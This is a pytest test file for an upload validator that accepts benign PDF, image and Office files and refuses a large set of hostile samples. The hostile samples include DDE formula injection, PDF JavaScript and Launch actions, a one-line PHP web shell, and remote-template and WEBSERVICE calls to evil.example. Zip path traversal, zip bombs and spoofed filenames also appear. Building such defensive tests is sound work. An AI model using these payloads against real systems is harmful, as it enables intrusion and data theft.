"""What people hand in: what is taken and what is kept of it, what is refused and why, and how it is called."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import pytest
from django.utils import translation

from agencies.refusals import Refused
from agencies.uploads import clean_name, judge
from reports.demonstration.evidence import one_page, scanned_page
from tests.agencies.files import (
    CATALOG,
    JFIF,
    OLE_HEAD,
    SCAN,
    TABLES,
    chunk,
    exif,
    frame,
    header,
    jpeg,
    objects,
    office,
    patched,
    pdf,
    png,
    relation,
    segment,
    stream,
    types,
    zipped,
)

RTF = b"{\\rtf1 hello}"
OLE = OLE_HEAD + bytes(600)
ZIP = office("xlsx")
MACRO = "application/vnd.ms-office.vbaProject"
DOCTYPE = '<?xml version="1.0"{}?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
NOISE = random.Random(1399).randbytes(200_000)


def xml_named(encoding: str) -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?><x/>'.encode("latin-1")


def cell(formula: str) -> str:
    return f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"


def sheet(formula: str) -> bytes:
    return office("xlsx", {"xl/worksheets/sheet1.xml": cell(formula)})


def word(text: str) -> bytes:
    return office("docx", {"word/document.xml": f'<w:document xmlns:w="urn:w">{text}</w:document>'})


def linked(kind: str, target: str, *, part: str = "docx", external: bool = True) -> bytes:
    place = "word/_rels/document.xml.rels" if part == "docx" else "xl/_rels/workbook.xml.rels"
    return office(part, {place: relation(kind, target, external=external)})


def bookish(name: str, body: bytes = b"x") -> bytes:
    return zipped((zipfile.ZipInfo(name), body))


def repeated(part: str) -> bytes:
    with pytest.warns(UserWarning, match="Duplicate"):
        return zipped((zipfile.ZipInfo(part), b"<other/>"))


def symlink() -> bytes:
    info = zipfile.ZipInfo("xl/media/image1.png")
    info.external_attr = 0xA1FF << 16
    return zipped((info, b"/etc/passwd"))


def bomb() -> bytes:
    return office("xlsx", {"xl/worksheets/sheet1.xml": b"<x>" + b" " * 2_000_000 + b"</x>"})


def lying_about_size() -> bytes:
    """The directory says four bytes; unpacked it is a million."""
    content = office("xlsx", {"xl/media/image1.png": bytes(1_000_000)})
    for local, crc in ((False, 16), (True, 14)):
        size = 24 if not local else 22
        content = patched(content, b"xl/media/image1.png", size, struct.pack("<I", 4), local=local)
        content = patched(content, b"xl/media/image1.png", crc, struct.pack("<I", zlib.crc32(bytes(4))), local=local)
    return content


GOOD = {
    "page.pdf": one_page("Jahesh"),
    "PAGE.PDF": pdf(),
    "packed.pdf": pdf(objects(b"<< /Type /Page >>"), stream(b"BT (/JavaScript is a word here) Tj ET")),
    "opens-at-a-page.pdf": pdf(catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"),
    "links.pdf": pdf(b"<< /Subtype /Link /A << /S /URI /URI (https://www.amar.org.ir) >> >>"),
    "followed-by-blanks.pdf": pdf() + b"\r\n\x00\x00",
    "saved-twice.pdf": pdf() + b"9 0 obj\n<< >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF",
    "noise.pdf": pdf(stream(NOISE, packed=False)),
    "scan.png": scanned_page(7),
    "grey.png": png(),
    "colours.png": png(head=header(2, 2, 8, 6), rows=(b"\x00" + bytes(8)) * 2),
    "palette.png": png(chunk(b"PLTE", bytes(6)), head=header(2, 2, 1, 3), rows=b"\x00\x80" * 2),
    "interlaced.png": png(head=header(2, 2, 8, 0, 1), rows=b"\x00\x01" * 2 + b"\x00\x01\x02"),
    "photo.jpg": jpeg(),
    "photo.jpeg": jpeg(JFIF, exif(6), segment(0xFE, b"made by a camera")),
    "progressive.jpg": jpeg(head=frame(marker=0xC2), scan=SCAN + segment(0xC4, b"\x10\x01" + bytes(16)) + SCAN),
    "data-of-the-camera.jpg": jpeg(tail=b"more of the camera"),
    "report.docx": office("docx"),
    "table.xlsx": office("xlsx"),
    "main-part-elsewhere.docx": office(
        "docx",
        {
            "word/document2.xml": "<main/>",
            "[Content_Types].xml": types("docx").replace("/word/document.xml", "/word/document2.xml"),
        },
    ),
    "links.docx": linked("hyperlink", "https://www.amar.org.ir/"),
    "mail.xlsx": linked("hyperlink", "mailto:office@example.ir", part="xlsx"),
    "beside-it.docx": linked("hyperlink", "%DA%AF%D8%B2%D8%A7%D8%B1%D8%B4.docx"),
    "pipe-in-a-formula.xlsx": sheet('A1&amp;"الف|ب"&amp;Sheet1!A2'),
    "fields.docx": word("<w:instrText> PAGE </w:instrText><w:t>DDE is a word here</w:t>"),
    "utf16.xlsx": office("xlsx", {"customXml/item1.xml": '<?xml version="1.0"?><x>گزارش</x>'.encode("utf-16")}),
    "printer.xlsx": office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\x01\x02"}),
    "long-comment.xlsx": office("xlsx", {"xl/styles.xml": f"<x><!-- {'<f <instrText ' * 20_000} --></x>"}),
    "many-thumbnails.jpg": jpeg(*[JFIF, exif(6)] * 2_000),
    "comments.xlsx": office("xlsx", {"xl/drawings/vmlDrawing1.vml": "<xml><v:shape>a<br>b</v:shape></xml>"}),
}

HOSTILE = {
    # not on the list
    "empty.pdf": b"",
    "no-extension": pdf(),
    "page.html": b"<script>alert(1)</script>",
    "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
    "program.exe": b"MZ" + bytes(100),
    "script.ps1": b"iex x",
    "link.lnk": b"L\x00\x00\x00",
    "list.csv": b"=cmd|' /C calc'!A0",
    "letter.rtf": RTF,
    "old.doc": OLE,
    "archive.zip": ZIP,
    "macro.xlsm": ZIP,
    "macro.docm": office("docx"),
    "a.pdf.exe": pdf(),
    "a.pdf\u202efdp.exe": pdf(),
    "stream.pdf:evil.exe": pdf(),
    "picture.webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
    "picture.gif": b"GIF89a" + bytes(20),
    # not what the name says
    "html.pdf": b"<html>%PDF-1.4 %%EOF",
    "exe.pdf": b"MZ" + pdf(),
    "png.pdf": png(),
    "exe.png": b"MZ\x90\x00",
    "text.jpg": b"hello",
    "jpeg.png": jpeg(),
    "rtf.docx": RTF,
    "sheet.docx": ZIP,
    "zip.xlsx": office("xlsx", {"[Content_Types].xml": "<Types/>"}),
    "old-workbook.xlsx": OLE,
    # PDF
    "cut.pdf": pdf()[:-20],
    "header-only.pdf": b"%PDF-1.7\n%%EOF",
    "no-version.pdf": pdf(head=b"%PDF-\n"),
    "javascript.pdf": pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "escaped-name.pdf": pdf(b"<< /S /J#61vaScr#69pt /JS (x) >>"),
    "packed-javascript.pdf": pdf(objects(b"<< /S /JavaScript /JS (x) >>")),
    "packed-and-escaped.pdf": pdf(objects(b"<< /S /#4aavaScript /JS (x) >>")),
    "behind-a-comment.pdf": pdf(objects(b"<< /S /JavaScript >>", b"/Type /ObjStm /First 4 % endobj obj\n /N 1")),
    "no-type.pdf": pdf(objects(b"<< /S /JavaScript >>", b"/N 1 /First 4")),
    "packed-twice.pdf": pdf(stream(b"78 9c", b"/Type /ObjStm /Filter [/ASCIIHexDecode /LZWDecode]", packed=False)),
    "predicted.pdf": pdf(objects(b"<< >>", b"/Type /ObjStm /First 4 /DecodeParms << /Predictor 12 >>")),
    "breaks-off.pdf": pdf(
        b"<< /Type /ObjStm /First 4 /Filter /FlateDecode >>\nstream\n" + zlib.compress(NOISE)[:500] + b"\nendstream"
    ),
    "launch.pdf": pdf(catalog=CATALOG[:-2] + b"/OpenAction << /S /Launch /F (cmd.exe) >> >>"),
    "rendition.pdf": pdf(b"<< /S /Rendition /JS (x) >>"),
    "flash.pdf": pdf(b"<< /Subtype /RichMedia >>"),
    "xfa.pdf": pdf(b"<< /AcroForm << /XFA 4 0 R >> >>"),
    "attachment.pdf": pdf(stream(b"MZ", b"/Type /EmbeddedFile")),
    "portfolio.pdf": pdf(catalog=CATALOG[:-2] + b"/Collection << /View /D >> >>"),
    "embedded-names.pdf": pdf(b"<< /Names << /EmbeddedFiles 4 0 R >> >>"),
    "sends-a-form.pdf": pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"),
    "other-document.pdf": pdf(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) >>"),
    "imports.pdf": pdf(b"<< /S /ImportData /F (a.fdf) >>"),
    "password.pdf": pdf(trailer=b"/Encrypt 4 0 R"),
    "page-and-zip.pdf": pdf() + ZIP,
    "zip-in-a-comment.pdf": pdf() + ZIP[:-2] + struct.pack("<H", 6) + b"\n%%EOF",
    "page-and-html.pdf": pdf(head=b"%PDF-1.7\n<html><script>alert(1)</script></html>\n"),
    "php.pdf": pdf(head=b"%PDF-1.7\n%<?php system($_GET[0]); ?>\n"),
    # Read again from each digit, it would never end; so would the next ones.
    "digits.pdf": b"%PDF-1.7\n" + b"1" * 400_000 + b"\n%%EOF",
    "bomb.pdf": pdf(objects(bytes(33 * 1024 * 1024))),
    # pictures
    "cut.png": png()[:-1],
    "half.png": png()[:60],
    "tail.png": png(tail=b"<script>alert(1)</script>"),
    "zip.png": png(tail=ZIP),
    "flood.png": png(head=header(60_000, 60_000)),
    "long.png": png(head=header(1_000_000, 1)),
    "nothing.png": png(head=header(0, 2)),
    "more-pixels.png": png(rows=bytes(50_000)),
    "fewer-pixels.png": png(rows=b"\x00\x01"),
    "wrong-sum.png": png()[:20] + b"\x07" + png()[21:],
    "no-pixels.png": b"\x89PNG\r\n\x1a\n" + header() + chunk(b"IEND"),
    "two-headers.png": png(header()),
    "no-palette.png": png(head=header(2, 2, 1, 3), rows=b"\x00\x80" * 2),
    "depth.png": png(head=header(2, 2, 3, 2)),
    "unknown-part.png": png(chunk(b"EVIL", b"x")),
    "garbage.png": b"\x89PNG\r\n\x1a\n" + NOISE,
    "hidden-after-the-pixels.png": b"\x89PNG\r\n\x1a\n"
    + header()
    + chunk(b"IDAT", zlib.compress(b"\x00\x01\x02\x00\x03\x04") + b"payload")
    + chunk(b"IEND"),
    "flood.jpg": jpeg(head=frame(65_000, 65_000)),
    "nothing.jpg": jpeg(head=frame(8, 0)),
    "no-frame.jpg": jpeg(head=b""),
    "two-frames.jpg": jpeg(head=frame() + frame()),
    "no-scan.jpg": jpeg(scan=b""),
    "cut.jpg": jpeg()[:-2],
    "lossless.jpg": jpeg(head=frame(marker=0xC3)),
    "long-segment.jpg": b"\xff\xd8\xff\xe0\xff\xff" + b"x",
    "full-of-marks.jpg": jpeg(scan=SCAN + b"\xff" * 400_000)[:-1],
    "zip.jpg": jpeg(tail=ZIP),
    "page.jpg": b"\xff\xd8\xff" + b"<html><script>alert(1)</script>" + b"\xff\xd9",
    "page-in-the-scan.jpg": jpeg(scan=SCAN + b"<script>alert(1)</script>"),
    # office
    "cut.xlsx": ZIP[:-30],
    "garbage.xlsx": b"PK\x03\x04" + NOISE,
    "macros.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"}),
    "macros-by-type.xlsx": office("xlsx", {"[Content_Types].xml": types("xlsx", ("xl/data.xml", MACRO))}),
    "macro-book.xlsx": office(
        "xlsx", {"[Content_Types].xml": types("xlsx", main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")}
    ),
    "macros-by-relation.docx": linked("vbaProject", "media/image1.png", external=False),
    "macro-sheet.xlsx": office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}),
    "activex.docx": office("docx", {"word/activeX/activeX1.xml": "<x/>"}),
    "custom-ui.docx": office("docx", {"customUI/customUI.xml": "<x/>"}),
    "embedded.docx": office("docx", {"word/embeddings/oleObject1.bin": OLE}),
    "embedded-book.docx": office("docx", {"word/embeddings/sheet1.xlsx": ZIP}),
    "chunk.docx": linked("aFChunk", "part.xml", external=False),
    "html-inside.docx": office("docx", {"word/part.html": "<script/>"}),
    "exe-as-picture.docx": office("docx", {"word/media/image1.png": b"MZ\x90\x00"}),
    "svg-script.docx": office("docx", {"word/media/image1.svg": "<svg><script>x()</script></svg>"}),
    "external-book.xlsx": office("xlsx", {"xl/externalLinks/externalLink1.xml": "<x/>"}),
    "connections.xlsx": office("xlsx", {"xl/connections.xml": "<x/>"}),
    "template.docx": linked("attachedTemplate", "http://evil.example/t.dotm"),
    "remote-picture.docx": linked("image", "http://evil.example/pixel.png"),
    "share.docx": linked("hyperlink", "\\\\evil\\share"),
    "script-link.docx": linked("hyperlink", "javascript:alert(1)"),
    "ms-link.docx": linked("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "dde.xlsx": sheet("cmd|'/c calc'!A0"),
    "quoted-dde.xlsx": sheet("'cmd'|'/c calc'!A0"),
    "webservice.xlsx": sheet("_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)"),
    "dde.docx": word("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
    "split-dde.docx": word("<w:instrText>D</w:instrText><w:r/><w:instrText>&#68;EAUTO x</w:instrText>"),
    "simple-dde.docx": word('<w:fldSimple w:instr="DDE x y"/>'),
    "doctype.docx": office("docx", {"word/document.xml": DOCTYPE.format("")}),
    "doctype-utf16.xlsx": office("xlsx", {"xl/styles.xml": DOCTYPE.format(' encoding="UTF-16"').encode("utf-16")}),
    "doctype-in-relations.docx": office("docx", {"word/_rels/document.xml.rels": DOCTYPE.format("")}),
    "doctype.vml.xlsx": office("xlsx", {"xl/drawings/vmlDrawing1.vml": DOCTYPE.format("")}),
    "utf7.xlsx": office("xlsx", {"xl/styles.xml": xml_named("utf-7")}),
    "ebcdic.xlsx": office("xlsx", {"xl/styles.xml": xml_named("cp037")}),
    "not-xml.xlsx": office("xlsx", {"xl/styles.xml": "<x>"}),
    "encrypted.xlsx": patched(ZIP, b"xl/workbook.xml", 8, b"\x01"),
    "bzip2.xlsx": patched(ZIP, b"xl/workbook.xml", 10, b"\x0c"),
    "climbs-out.xlsx": bookish("../../etc/passwd.xml"),
    "absolute.xlsx": bookish("/etc/cron.xml"),
    "backslash.xlsx": bookish("..\\windows\\x.xml"),
    "drive.xlsx": bookish("C:/x.xml"),
    "symlink.xlsx": symlink(),
    "same-name-twice.xlsx": repeated("xl/workbook.xml"),
    "same-but-for-case.xlsx": bookish("XL/Workbook.xml", b"<x/>"),
    "bomb.xlsx": bomb(),
    "lying-about-its-size.xlsx": lying_about_size(),
    "wrong-sum.xlsx": patched(ZIP, b"xl/workbook.xml", 16, b"\x00\x00\x00\x00"),
    "other-name-inside.xlsx": patched(ZIP, b"xl/workbook.xml", 30, b"xl/payload12.xml"[:15], local=True),
    "deep.xlsx": office("xlsx", {"xl/styles.xml": "<a>" * 300 + "</a>" * 300}),
    "too-many-parts.xlsx": office("xlsx", {f"xl/{number}.xml": "<x/>" for number in range(400)}),
    "before-the-zip.xlsx": b"PK\x03\x04" + ZIP,
    "after-the-zip.xlsx": ZIP + b"MZ\x90\x00",
    "comment.xlsx": office("xlsx", comment=b"<script>"),
    "between-the-parts.xlsx": patched(ZIP, b"xl/workbook.xml", 42, struct.pack("<I", 7)),
}


@pytest.mark.parametrize("name", GOOD)
def test_judge_takes(name):
    assert judge(name, GOOD[name]).name == clean_name(name)


@pytest.mark.parametrize("name", HOSTILE)
def test_judge_refuses(name):
    with pytest.raises(Refused):
        judge(name, HOSTILE[name])


def test_corpus_is_large_enough():
    assert len(HOSTILE) >= 70
    assert len(GOOD) >= 15


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("list.csv", "only these kinds"),
        ("html.pdf", "not what its name says"),
        ("password.pdf", "password"),
        ("old-workbook.xlsx", "password"),
        ("launch.pdf", "macros or scripts"),
        ("macros.xlsx", "macros or scripts"),
        ("attachment.pdf", "other files inside"),
        ("template.docx", "fetches"),
        ("bomb.xlsx", "unpacked"),
        ("flood.jpg", "64 million pixels"),
        ("zip.png", "not what its name says"),
        ("zip.jpg", "hidden in it"),
    ],
)
def test_refusal_names_the_file_and_what_is_wrong(name, says):
    with translation.override("en"), pytest.raises(Refused, match=says) as refusal:
        judge(name, HOSTILE[name])
    assert name in str(refusal.value)


def test_judge_refuses_what_is_too_large(settings):
    settings.EVIDENCE_MAX_BYTES = len(pdf())
    assert judge("a.pdf", pdf()).content_type == "application/pdf"
    settings.EVIDENCE_MAX_BYTES -= 1
    with translation.override("en"), pytest.raises(Refused, match="too large"):
        judge("a.pdf", pdf())


# --- what is kept ---------------------------------------------------------------------------------


def test_documents_are_kept_as_they_came():
    for name in ("page.pdf", "report.docx", "table.xlsx"):
        assert judge(name, GOOD[name]).content == GOOD[name]


def test_picture_is_kept_without_what_is_no_picture():
    said = [chunk(b"tEXt", b"Author\x00secret"), chunk(b"eXIf", b"MM secret"), chunk(b"zTXt", b"a\x00\x00secret")]
    assert judge("a.png", png(*said)).content == png()


def test_photo_is_kept_without_place_camera_and_small_copies():
    thumbnail = segment(0xE0, b"JFIF\x00\x01\x02\x00\x00\x01\x00\x01\x02\x02" + bytes(12))
    said = [thumbnail, exif(1), segment(0xFE, b"secret"), segment(0xED, b"Photoshop secret")]
    assert judge("a.jpg", jpeg(*said, tail=b"secret")).content == jpeg(JFIF)


@pytest.mark.parametrize("big", [True, False])
@pytest.mark.parametrize("orientation", [3, 6, 8])
def test_photo_stays_the_way_it_was_held(orientation, big):
    kept = judge("a.jpg", jpeg(exif(orientation, big=big))).content
    assert b"46.2919" not in kept
    assert struct.pack(">HHIHH", 0x0112, 3, 1, orientation, 0) in kept
    assert kept.endswith(TABLES + frame() + SCAN + b"\xff\xd9")


@pytest.mark.parametrize(
    "tags", [b"", b"MM", b"MM\x00*\xff\xff\xff\xff", b"II*\x00\x08\x00\x00\x00\xff\xff", b"XX*\x00"]
)
def test_photo_with_a_broken_description_is_kept_without_it(tags):
    assert judge("a.jpg", jpeg(segment(0xE1, b"Exif\x00\x00" + tags))).content == jpeg()


def test_any_cut_or_changed_byte_is_judged():
    """Whatever comes is taken or refused: nothing else is raised."""
    chance = random.Random(5)
    for name in ("page.pdf", "packed.pdf", "colours.png", "photo.jpeg", "links.docx", "printer.xlsx"):
        content = GOOD[name]
        for _time in range(60):
            place = chance.randrange(len(content))
            for broken in (content[:place], content[:place] + chance.randbytes(1) + content[place + 1 :]):
                try:
                    judge(name, broken)
                except Refused:
                    continue


# --- names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("C:\\docs\\گزارش.pdf", "گزارش.pdf"),
        ("../../گزارش.pdf", "گزارش.pdf"),
        ("a\r\nb.pdf", "ab.pdf"),
        ("a\x00b.pdf", "ab.pdf"),
        ("\u202egpj.pdf", "gpj.pdf"),
        ("\u2066گزارش\u2069.pdf", "گزارش.pdf"),
        ("می\u200cشود.pdf", "می\u200cشود.pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
        (".pdf", "file.pdf"),
        ("...pdf", "file.pdf"),
        ("", "file"),
        (None, "file"),
        ("/", "file"),
        ("گزارش . pdf", "گزارش. pdf"),
        ("aux.pdf", "aux_.pdf"),
        ('a"; filename="b.pdf', "a__ filename=_b.pdf"),
        ("a%0d%0ab.pdf", "a_0d_0ab.pdf"),
        ("گ" + "\u0301" * 40 + ".pdf", "گ\u0301\u0301.pdf"),
        ("\ud800.pdf", "file.pdf"),
    ],
)
def test_name_as_it_is_shown(given, shown):
    assert clean_name(given) == shown


def test_good_documents_open():
    """What is called good here is good: other programs read it too."""
    for name in ("report.docx", "table.xlsx", "links.docx"):
        with zipfile.ZipFile(io.BytesIO(GOOD[name])) as archive:
            assert archive.testzip() is None
